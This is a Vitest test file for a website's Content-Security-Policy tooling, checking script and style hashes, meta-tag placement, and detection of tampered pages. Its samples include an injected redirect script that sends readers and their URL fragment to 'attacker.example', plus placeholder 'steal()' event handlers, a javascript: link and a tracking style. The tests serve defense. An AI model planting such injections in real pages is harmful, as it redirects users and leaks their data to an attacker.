import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CSP_HEADER_POLICY, pageCspPolicy } from '@/lib/security-headers';
import { hashSource, pageCspProblems, parsePolicy, withPageCsp } from '../../scripts/csp-meta.mjs';

const FIXTURES = 'tests/fixtures/csp';
const read = (file: string) => readFileSync(new URL(`../../${file}`, import.meta.url), 'utf8');
/** A small exported page with its policy tag: a theme script, a redirect, hydration data, JSON-LD and highlighted code. */
const PAGE = read(`${FIXTURES}/page.html`);
/** The same page after its redirect script was changed to send readers elsewhere. */
const TAMPERED = read(`${FIXTURES}/tampered-script.html`);
const POLICY_TAG = /<meta http-equiv="Content-Security-Policy" content="[^"]*"\/>/;
const withoutTag = (html: string) => html.replace(POLICY_TAG, '');
const policyOf = (html: string) => parsePolicy(POLICY_TAG.exec(html)?.[0].match(/content="([^"]*)"/)?.[1] ?? '');

describe('hash sources', () => {
  it('are the base64 SHA-256 of the UTF-8 text, as CSP defines them', () => {
    // The SHA-256 of no bytes, a published constant.
    expect(hashSource('')).toBe("'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='");
    const arrowBytes = Buffer.from([0xe2, 0x86, 0x92]);
    expect(hashSource('→')).toBe(`'sha256-${createHash('sha256').update(arrowBytes).digest('base64')}'`);
  });
});

describe('writing the policy tag', () => {
  const written = withPageCsp(withoutTag(PAGE), pageCspPolicy);

  it('puts it right after <meta charset>, before anything it must govern', () => {
    expect(written.indexOf('<meta http-equiv="Content-Security-Policy"')).toBe(
      written.indexOf('<meta charSet="utf-8"/>') + '<meta charSet="utf-8"/>'.length,
    );
    const noCharset = withPageCsp(withoutTag(PAGE).replace('<meta charSet="utf-8"/>', ''), pageCspPolicy);
    expect(noCharset).toMatch(/<head><meta http-equiv="Content-Security-Policy"/);
  });

  it("lists each inline script's hash and each inline style's, and nothing 'unsafe-inline'", () => {
    const policy = policyOf(written);
    const scripts = [...written.matchAll(/<script>([\s\S]*?)<\/script>|<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map(
      (match) => match[1] ?? match[2],
    );
    expect(scripts).toHaveLength(5);
    expect(policy.get('script-src')).toEqual(["'self'", ...scripts.map(hashSource)]);
    const styles = [...new Set([...written.matchAll(/ style="([^"]*)"/g)].map((match) => match[1]))];
    expect(policy.get('style-src')).toEqual(["'self'", "'unsafe-hashes'", ...styles.map(hashSource)]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(pageCspProblems(written)).toEqual([]);
  });

  it('gives the same page when run again, and replaces a stale tag', () => {
    expect(withPageCsp(written, pageCspPolicy)).toBe(written);
    expect(withPageCsp(PAGE, pageCspPolicy)).toBe(PAGE);
    const rewritten = withPageCsp(TAMPERED, pageCspPolicy);
    expect(pageCspProblems(rewritten)).toEqual([]);
    expect(rewritten.match(/http-equiv="Content-Security-Policy"/g)).toHaveLength(1);
  });

  it('refuses a page with inline code no policy allows, naming it', () => {
    const handler = withoutTag(PAGE).replace('<h1>', '<h1 onclick="steal()">');
    expect(() => withPageCsp(handler, pageCspPolicy)).toThrow('inline event handler onclick="steal()" on <h1>');
    const javascriptUrl = withoutTag(PAGE).replace('<h1>', '<a href="javascript:steal()">x</a><h1>');
    expect(() => withPageCsp(javascriptUrl, pageCspPolicy)).toThrow('javascript: URL in href on <a>');
    expect(() => withPageCsp('<svg></svg>', pageCspPolicy)).toThrow('no <head> start tag');
  });
});

describe('the page check', () => {
  it('passes the committed fixture page', () => {
    expect(pageCspProblems(PAGE)).toEqual([]);
  });

  it('fails a page whose inline script no longer matches its hash, naming the script', () => {
    expect(pageCspProblems(TAMPERED)).toEqual([
      expect.stringMatching(
        /^inline script 2 "location\.replace\("https:\/\/attacker\.example\/"\+location\.hash\)" \('sha256-[^']+'\) is not in script-src$/,
      ),
      expect.stringMatching(/^script-src lists 'sha256-[^']+', which no inline script on the page has$/),
    ]);
  });

  it('fails from the command line with the file and the script, and passes the untouched page', () => {
    const tampered = spawnSync(process.execPath, ['scripts/csp-meta.mjs', '--check', FIXTURES], { encoding: 'utf8' });
    expect(tampered.status).toBe(1);
    expect(tampered.stderr).toContain(`${FIXTURES}/tampered-script.html: inline script 2 "location.replace("https://attacker.example/"`);
    expect(tampered.stderr).not.toContain(`${FIXTURES}/page.html`);
    const untouched = spawnSync(process.execPath, ['scripts/csp-meta.mjs', '--check', `${FIXTURES}/page.html`], { encoding: 'utf8' });
    expect(untouched.stderr).toBe('');
    expect(untouched.status).toBe(0);
  });

  it.each([
    ['no policy tag', (html: string) => withoutTag(html), 'no Content-Security-Policy meta tag'],
    [
      'two policy tags',
      (html: string) => html.replace('<title>', `${POLICY_TAG.exec(html)?.[0]}<title>`),
      '2 Content-Security-Policy meta tags',
    ],
    [
      'a tag after other head elements',
      (html: string) => html.replace(POLICY_TAG, '').replace('<title>', `${POLICY_TAG.exec(html)?.[0]}<title>`),
      'comes after <meta>',
    ],
    [
      'a tag in <body>',
      (html: string) => html.replace(POLICY_TAG, '').replace('<h1>', `${POLICY_TAG.exec(html)?.[0]}<h1>`),
      'is not in <head>',
    ],
    [
      "'unsafe-inline' scripts",
      (html: string) => html.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
      "script-src allows 'unsafe-inline'",
    ],
    [
      "'unsafe-eval'",
      (html: string) => html.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'"),
      "script-src allows 'unsafe-eval'",
    ],
    ['scripts from anywhere', (html: string) => html.replace("script-src 'self'", "script-src 'self' https:"), 'script-src allows https:'],
    ['no object-src', (html: string) => html.replace("; object-src 'none'", ''), 'object-src is missing'],
    ['a loose base-uri', (html: string) => html.replace("base-uri 'none'", 'base-uri *'), 'base-uri is "*"'],
    [
      "'unsafe-inline' styles",
      (html: string) => html.replace("style-src 'self'", "style-src 'self' 'unsafe-inline'"),
      "style-src allows 'unsafe-inline'",
    ],
    [
      'a changed style attribute',
      (html: string) => html.replace('--shiki-light:#024C1A;--shiki-dark:#72F088', 'background:url(/track)'),
      'inline style "background:url(/track)"',
    ],
    ['an inline event handler', (html: string) => html.replace('<h1>', '<h1 onmouseover="steal()">'), 'inline event handler onmouseover'],
  ])('fails a page with %s', (_name, change, problem) => {
    const changed = change(PAGE);
    expect(changed).not.toBe(PAGE);
    expect(pageCspProblems(changed).join('\n')).toContain(problem);
  });
});

describe('the header policy', () => {
  const header = parsePolicy(CSP_HEADER_POLICY);

  it("leaves inline scripts and styles to each page's hashes: no hash or nonce, which would switch 'unsafe-inline' off", () => {
    for (const directive of ['script-src', 'style-src']) {
      expect(header.get(directive)).toContain("'unsafe-inline'");
      expect(header.get(directive)?.filter((source) => /^'(sha\d+|nonce)-/.test(source))).toEqual([]);
    }
  });

  it('carries what a meta tag cannot, and allows neither eval nor plugins', () => {
    expect(header.get('frame-ancestors')).toEqual(["'none'"]);
    expect(header.get('object-src')).toEqual(["'none'"]);
    expect(header.get('script-src-attr')).toEqual(["'none'"]);
    expect(CSP_HEADER_POLICY).not.toContain("'unsafe-eval'");
  });

  it('is no looser than the page policy in anything but inline scripts and styles', () => {
    const page = parsePolicy(pageCspPolicy({ scripts: [], styleElements: [], styleAttributes: [] }));
    for (const [directive, sources] of page) {
      if (directive === 'script-src' || directive === 'style-src') continue;
      expect(header.get(directive), directive).toEqual(sources);
    }
  });
});
